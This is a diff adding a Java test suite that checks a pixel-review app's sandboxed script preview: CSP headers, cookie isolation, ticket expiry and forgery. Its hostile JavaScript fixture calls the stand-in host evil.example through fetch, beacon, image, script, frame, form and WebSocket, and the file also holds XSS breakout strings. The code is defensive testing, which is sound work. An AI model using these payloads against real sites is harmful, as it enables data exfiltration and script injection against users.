@@ -1,0 +1,189 @@
+package org.pixelkeep.review.http;
+
+import static io.restassured.RestAssured.given;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.options.Cookie;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+import java.time.Duration;
+import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
+import org.junit.jupiter.api.Test;
+import org.pixelkeep.pixel.Pixel;
+import org.pixelkeep.pixel.PixelService;
+import org.pixelkeep.review.PreviewTickets;
+import org.pixelkeep.testing.Browser;
+import org.pixelkeep.testing.Given;
+import org.pixelkeep.testing.GivenPeople;
+import org.pixelkeep.testing.SettableClock;
+import org.pixelkeep.testing.SignedIn;
+import org.pixelkeep.web.SessionCookie;
+
+@QuarkusTest
+class PreviewTest {
+    private static final String HOSTILE = """
+            var tried = [];
+            function attempt(name, what) {
+              try { what(); tried.push(name + ' done'); } catch (e) { tried.push(name + ' refused'); }
+            }
+            attempt('parent', function () { parent.document.title = 'owned'; });
+            attempt('top', function () { top.document.body.innerHTML = 'owned'; });
+            attempt('navigation', function () { top.location = 'https://evil.example/top'; });
+            attempt('cookie', function () { document.cookie = 'stolen=1'; if (document.cookie) { throw 1; } });
+            attempt('storage', function () { localStorage.setItem('a', 'b'); });
+            attempt('session', function () { sessionStorage.setItem('a', 'b'); });
+            attempt('database', function () { indexedDB.open('a'); });
+            attempt('popup', function () { if (!window.open('https://evil.example/popup')) { throw 1; } });
+            fetch('https://evil.example/fetch').catch(function () {});
+            fetch('/api/v1/me', { credentials: 'include' }).catch(function () {});
+            navigator.sendBeacon('https://evil.example/beacon', 'x');
+            new Image().src = 'https://evil.example/image';
+            var s = document.createElement('script'); s.src = 'https://evil.example/script.js'; document.body.append(s);
+            var f = document.createElement('iframe'); f.src = 'https://evil.example/frame'; document.body.append(f);
+            var form = document.createElement('form');
+            form.action = 'https://evil.example/form'; form.method = 'post'; document.body.append(form);
+            form.submit();
+            try { new WebSocket('wss://evil.example/socket'); } catch (e) { tried.push('socket refused'); }
+            parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed', what: '<img src=x onerror=alert(1)>' }, '*');
+            document.title = tried.join(', ');
+            tried.forEach(function (each) {
+              parent.postMessage({ from: 'pixelkeep-preview', kind: 'failed', what: each }, '*');
+            });
+            """;
+
+    private final PreviewTickets tickets;
+    private final PixelService pixels;
+    private final SettableClock clock;
+
+    PreviewTest(PreviewTickets tickets, PixelService pixels, SettableClock clock) {
+        this.tickets = tickets;
+        this.pixels = pixels;
+        this.clock = clock;
+    }
+
+    @Test
+    void a_hostile_script_reaches_nothing_and_what_it_asked_for_is_listed() {
+        var network = Given.network("Northwind");
+        var pixel = Given.pixel(network, Given.script("Hostile", HOSTILE));
+        var asked = new CopyOnWriteArrayList<String>();
+        try (var browser = Browser.visit(Browser.Look.DESK).expect("")) {
+            var page = signedIn(browser, network.id);
+            page.onRequest(request -> asked.add(request.url()));
+            var address = "/pixels/" + pixel.id + "/review";
+
+            browser.open(address);
+            assertThat(page.locator("iframe").count()).isZero();
+            page.getByText("Try the secure variant").click();
+            page.locator("[data-preview-list] li", new Page.LocatorOptions().setHasText("session refused"))
+                    .waitFor();
+            page.locator(
+                            "[data-preview-list] li",
+                            new Page.LocatorOptions().setHasText("img-src: https://evil.example/image"))
+                    .waitFor();
+
+            var listed = page.locator("[data-preview-list] li").allTextContents();
+            assertThat(listed)
+                    .contains(
+                            "error: parent refused",
+                            "error: top refused",
+                            "error: navigation refused",
+                            "error: cookie refused",
+                            "error: storage refused",
+                            "error: session refused",
+                            "error: database refused",
+                            "error: popup refused",
+                            "connect-src: https://evil.example/fetch",
+                            "connect-src: https://evil.example/beacon",
+                            "error: <img src=x onerror=alert(1)>")
+                    .anyMatch(line -> line.contains("https://evil.example/script.js"))
+                    .anyMatch(line -> line.startsWith("frame-src: https://evil.example"));
+            assertThat(page.url()).contains(address);
+            assertThat(page.title()).contains("Review Hostile");
+            assertThat(page.locator("[data-preview-list] img").count()).isZero();
+            assertThat(asked).allMatch(url -> url.startsWith(RestAssured.baseURI + ":" + RestAssured.port));
+            assertThat(asked).noneMatch(url -> url.endsWith("/api/v1/me"));
+            assertThat(page.context().cookies())
+                    .extracting(cookie -> cookie.name)
+                    .doesNotContain("stolen");
+        }
+    }
+
+    @Test
+    void the_document_has_an_origin_of_its_own_and_nothing_of_the_session() {
+        var network = Given.network("Northwind");
+        var pixel = Given.pixel(
+                network,
+                Given.script(
+                        "Script", "var a = '</script><script>alert(1)</script>\u2028'; var b = '${CACHEBUSTER}';"));
+        var cookie = SignedIn.cookie(GivenPeople.reviewer(network.id).email);
+
+        var answer = SignedIn.withCookie(cookie).get("/previews/" + ticket(pixel));
+
+        assertThat(answer.statusCode()).isEqualTo(200);
+        assertThat(answer.header("Content-Security-Policy"))
+                .startsWith("sandbox allow-scripts; default-src 'none';")
+                .doesNotContain("allow-same-origin")
+                .endsWith("frame-ancestors 'self'");
+        assertThat(answer.header("Referrer-Policy")).isEqualTo("no-referrer");
+        assertThat(answer.cookies()).isEmpty();
+        assertThat(answer.asString())
+                .doesNotContain(cookie)
+                .doesNotContain(SignedIn.csrf(cookie))
+                .doesNotContain("<script>alert(1)")
+                .contains("\\u003c/script>\\u003cscript>alert(1)")
+                .contains("1234567890");
+    }
+
+    @Test
+    void a_ticket_needs_no_sign_in_and_lasts_five_minutes() {
+        var pixel = Given.pixel(Given.network("Northwind"), "Image");
+        var ticket = ticket(pixel);
+        given().get("/previews/" + ticket).then().statusCode(200);
+
+        clock.pass(Duration.ofMinutes(6));
+
+        given().get("/previews/" + ticket).then().statusCode(404);
+    }
+
+    @Test
+    void a_ticket_shows_the_version_that_it_was_made_for() {
+        var network = Given.network("Northwind");
+        var pixel = Given.pixel(network, "Image");
+        var ticket = ticket(pixel);
+
+        pixels.setActive(Given.system(network.id), pixel.id, null, false);
+
+        given().get("/previews/" + ticket).then().statusCode(404);
+    }
+
+    @Test
+    void a_forged_ticket_opens_nothing() {
+        var pixel = Given.pixel(Given.network("Northwind"), "Image");
+        var ticket = ticket(pixel);
+        var forged = (ticket.charAt(10) == 'A' ? "B" : "A");
+
+        for (var text : List.of(
+                "x",
+                "AAAA",
+                ticket.substring(1),
+                ticket.substring(0, 10) + forged + ticket.substring(11),
+                ticket + "A")) {
+            given().get("/previews/" + text).then().statusCode(404);
+        }
+    }
+
+    private String ticket(Pixel pixel) {
+        return tickets.issue(new PreviewTickets.Ticket(pixel.id, pixel.version, true));
+    }
+
+    private static Page signedIn(Browser browser, long networkId) {
+        var cookie = SignedIn.cookie(GivenPeople.reviewer(networkId).email);
+        browser.page()
+                .context()
+                .addCookies(List.of(
+                        new Cookie(SessionCookie.NAME, cookie).setUrl(RestAssured.baseURI + ":" + RestAssured.port)));
+        return browser.page();
+    }
+}
